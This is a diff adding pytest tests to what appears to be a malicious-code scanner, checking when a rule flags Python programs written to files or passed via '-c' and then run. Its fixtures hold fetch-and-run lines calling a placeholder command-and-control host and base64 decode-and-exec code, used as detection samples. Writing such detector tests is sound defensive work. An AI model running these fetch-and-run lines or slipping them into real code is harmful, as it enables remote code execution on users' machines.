@@ -646,3 +646,96 @@ def test_shell_beacon_needs_a_network_client_and_host_facts(
     command: str, client: str | None
 ) -> None:
     assert behavior._shell_beacon(command) == client
+
+
+# -- programs written out as literals ----------------------------------------------------------
+
+_WRITES_PROGRAM = """\
+import subprocess, sys
+
+
+def stage(path):
+    with open(path, "w") as f:
+        f.write(%r)
+        f.write(%r)
+    subprocess.Popen([sys.executable, path])
+"""
+
+
+def test_a_written_program_is_judged_as_the_script_it_is() -> None:
+    program = (
+        "import base64\n",
+        f"exec(base64.b64decode('{HARMLESS_B64}'))\n",
+    )
+    findings = _scan(_WRITES_PROGRAM % program)
+    [found] = [f for f in findings if f.rule == "literal-program-run"]
+    assert found.line == 6  # the first write to the file
+    assert found.scope is Scope.RUNTIME
+    assert "runs decoded code" in found.message
+    assert "subprocess.Popen (line 8)" in found.message
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        ("import base64\n", "print(base64.b64decode('aGk='))\n"),  # decodes, runs nothing
+        ("import base64\n", "  exec(base64.b64decode(x)\n"),  # does not parse, even dedented
+        ("exec(base64.b64decode('aGk='))", ""),  # exec of something never imported: no threat
+    ],
+    ids=["harmless", "broken", "no-decoder"],
+)
+def test_a_written_program_without_a_threat_of_its_own_is_not_reported(
+    program: tuple[str, str],
+) -> None:
+    assert "literal-program-run" not in {f.rule for f in _scan(_WRITES_PROGRAM % program)}
+
+
+def test_writes_to_two_files_are_not_read_as_one_program() -> None:
+    source = """\
+    import subprocess, sys
+    with open("a.py", "w") as a, open("b.py", "w") as b:
+        a.write("import urllib.request\\n")
+        b.write("exec(urllib.request.urlopen('https://c2.example.invalid/p').read())\\n")
+    subprocess.run([sys.executable, "a.py"])
+    subprocess.run([sys.executable, "b.py"])
+    """
+    assert "literal-program-run" not in {f.rule for f in _scan(source)}
+
+
+_FETCH_AND_RUN = (
+    "import urllib.request\nexec(urllib.request.urlopen('https://c2.example.invalid').read())\n"
+)
+
+
+@pytest.mark.parametrize(("levels", "found"), [(1, True), (2, True), (3, False), (4, False)])
+def test_programs_written_inside_written_programs_are_read_to_a_bounded_depth(
+    levels: int, found: bool
+) -> None:
+    program = _FETCH_AND_RUN
+    for _ in range(levels):
+        program = (
+            "import subprocess, sys\n"
+            f"open('n.py', 'w').write({program!r})\n"
+            "subprocess.run([sys.executable, 'n.py'])\n"
+        )
+    assert ("literal-program-run" in {f.rule for f in _scan(program)}) is found
+
+
+@pytest.mark.parametrize(
+    ("call", "found"),
+    [
+        ("os.system('python3 -c \"{}\"')", True),
+        ("os.system('/usr/bin/pythonw.exe -u -c \"{}\"')", True),
+        ("os.system('bash -c \"{}\"')", False),  # not a Python interpreter
+        ("os.system('python3 -c \"{}')", False),  # unbalanced quote: no command line to read
+        ("subprocess.run([sys.executable, '-c', \"{}\"])", True),
+        ("subprocess.run([sys.executable, '-m', \"{}\"])", False),
+    ],
+)
+def test_only_the_program_after_a_python_interpreters_dash_c_is_read(
+    call: str, found: bool
+) -> None:
+    program = "import urllib.request;exec(urllib.request.urlopen(URL).read())"
+    source = f"import os, subprocess, sys\n\n\ndef go():\n    {call.format(program)}\n"
+    rules = {f.rule for f in _scan(source)}
+    assert ("literal-program-run" in rules) is found
